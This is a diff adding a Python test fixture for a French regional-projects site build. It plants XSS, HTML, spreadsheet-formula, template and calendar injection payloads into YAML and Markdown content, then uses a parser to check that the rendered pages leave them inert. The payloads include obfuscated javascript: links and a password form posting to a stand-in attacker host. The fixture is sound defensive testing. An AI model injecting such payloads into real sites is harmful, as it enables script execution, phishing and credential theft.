@@ -1,0 +1,148 @@
+"""Valid but hostile content: markup, scripts, event handlers and dangerous URLs in every kind
+of field, in YAML and in Markdown. A build must render all of it inert.
+
+Every payload that would run sets ``window.__ti_pirate``: the browser tests read it."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+GC = "territoires/grand-chatellerault"
+ACTION = f"{GC}/actions/diagnostic-attractivite.md"
+TITLE = "titre: Réaliser un diagnostic d'attractivité"
+
+RUN = "window.__ti_pirate=1"
+SCRIPT = f"<script>{RUN}</script>"
+
+# Payloads placed in YAML text fields (escaped by the templates).
+YAML_PAYLOADS = {
+    "balise-script": f"Piégé {SCRIPT} fin",
+    "gestionnaire-evenement": f'<img src=x onerror="{RUN}">',
+    "sortie-d-attribut": f'"\'><svg onload="{RUN}">',
+    "lien-markdown-javascript": f"[cliquez ici](javascript:{RUN})",
+    "gabarit-jinja": "{{ 7 * 7 }} {% raw %} ${7*7}",
+    "tableau-markdown": "| colonne | cassée |\n|---|---|",
+    "formule-tableur": '=HYPERLINK("https://pirate.example/","cliquez")',
+}
+
+# A title that tries to add an event to the calendar file.
+ICS_INJECTION = "Réunion\r\nBEGIN:VEVENT\r\nSUMMARY:injecté"
+
+# Payloads placed in Markdown bodies (sanitised after rendering).
+MARKDOWN_PAYLOADS = {
+    "script": SCRIPT,
+    "script-svg": f"<svg><script>{RUN}</script></svg>",
+    "img-onerror": f'<img src="x" onerror="{RUN}">',
+    "a-javascript": f'<a href="javascript:{RUN}">lien html</a>',
+    "a-javascript-masque": f'<a href="jav&#x09;ascript:{RUN}">lien masqué</a>',
+    "lien-markdown-javascript": f"[lien markdown](javascript:{RUN})",
+    "image-data": "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "lien-data": f"[data](data:text/html,<script>{RUN}</script>)",
+    "iframe": '<iframe src="https://pirate.example/"></iframe>',
+    "objet": '<object data="https://pirate.example/x.swf"></object>',
+    "formulaire": '<form action="https://pirate.example/"><input name="mdp"></form>',
+    "style": "<style>body { display: none }</style>",
+    "attribut-style": '<p style="position:fixed;inset:0;background:red">recouvre</p>',
+    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://pirate.example/">',
+    "base": '<base href="https://pirate.example/">',
+    "onclick": f'<a href="#" onclick="{RUN}">clic</a>',
+    "details-ontoggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
+    "gabarit-jinja": "{{ config.site_name }} {% for x in range(3) %}boucle{% endfor %}",
+}
+
+
+def _markdown_body() -> str:
+    blocks = [f"Paragraphe {name} :\n\n{payload}\n" for name, payload in MARKDOWN_PAYLOADS.items()]
+    return "Mot-repère : chaudronnerie.\n\n" + "\n".join(blocks)
+
+
+def _yaml_string(value: str) -> str:
+    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
+
+
+def make_hostile(root: Path) -> None:
+    """Put every payload in the Grand-Châtellerault territory of the project at ``root``."""
+    p = YAML_PAYLOADS
+    action = root / ACTION
+    text = action.read_text(encoding="utf-8")
+    text = text.replace(TITLE, f"titre: {_yaml_string(p['balise-script'])}")
+    text = text.replace(
+        "nature_soutien:",
+        "porteur:\n"
+        f"  nom: {_yaml_string(p['formule-tableur'])}\n"
+        f"  categorie: {_yaml_string(p['sortie-d-attribut'])}\n"
+        "budget:\n"
+        f"  - financeur: {_yaml_string(p['gestionnaire-evenement'])}\n"
+        "    montant: 1000\n"
+        "    statut: acquis\n"
+        f"    commentaire: {_yaml_string(p['lien-markdown-javascript'])}\n"
+        "indicateurs:\n"
+        f"  - nom: {_yaml_string(p['tableau-markdown'])}\n"
+        "    type: résultat\n"
+        f"    unite: {_yaml_string(p['gabarit-jinja'])}\n"
+        "    valeur: 3\n"
+        "nature_soutien:",
+    )
+    head, _, _ = text.rpartition("---\n")
+    action.write_text(head + "---\n" + _markdown_body(), encoding="utf-8")
+
+    territory = root / GC / "territoire.yml"
+    text = territory.read_text(encoding="utf-8")
+    text = text.replace(
+        "identification: Phase pilote",
+        f"identification: {_yaml_string(p['sortie-d-attribut'] + ' Phase pilote')}\n"
+        "# identification d'origine : Phase pilote",
+    )
+    territory.write_text(text, encoding="utf-8")
+
+    letters = root / GC / "lettres"
+    letters.mkdir()
+    (letters / "1.md").write_text(
+        "---\n"
+        f"titre: {_yaml_string('</title>' + SCRIPT + ' Lettre piégée')}\n"
+        "date: 2024-03-01\n"
+        f"resume: {_yaml_string(p['gestionnaire-evenement'] + ' résumé piégé')}\n"
+        "appels_a_projets:\n"
+        f"  - titre: {_yaml_string(p['sortie-d-attribut'])}\n"
+        "    lien: https://pirate.example/?a=1&b=2\n"
+        "evenements:\n"
+        f"  - titre: {_yaml_string(ICS_INJECTION)}\n"
+        "    date: 2099-01-15T10:00\n"
+        f"    lieu: {_yaml_string(p['balise-script'])}\n"
+        "---\n" + _markdown_body(),
+        encoding="utf-8",
+    )
+
+
+_DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
+_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "srcdoc")
+
+
+def live_injections(html: str) -> list[str]:
+    """What in a page could still run or mislead: empty when every payload is inert."""
+    from bs4 import BeautifulSoup
+
+    found = []
+    soup = BeautifulSoup(html, "html.parser")
+    for element in soup.find_all(True):
+        name = element.name
+        if name == "script" and "__ti_pirate" in element.get_text():
+            found.append("<script> injecté")
+        if name in ("iframe", "object", "embed", "base", "frame"):
+            found.append(f"<{name}>")
+        if name == "meta" and str(element.get("http-equiv", "")).lower() == "refresh":
+            found.append("<meta http-equiv=refresh>")
+        if name == "style" and "display: none" in element.get_text():
+            found.append("<style> injecté")
+        for attribute, value in element.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else str(value)
+            if attribute.lower().startswith("on"):
+                found.append(f"<{name} {attribute}>")
+            squashed = "".join(c for c in text if c > " ").lower()
+            if attribute in _URL_ATTRIBUTES and squashed.startswith(_DANGEROUS_SCHEMES):
+                found.append(f"<{name} {attribute}={text[:30]}>")
+            if attribute == "action" and "pirate.example" in text:
+                found.append("<form action> vers un autre site")
+            if attribute == "style" and "position:fixed" in squashed:
+                found.append("style couvrant la page")
+    return found
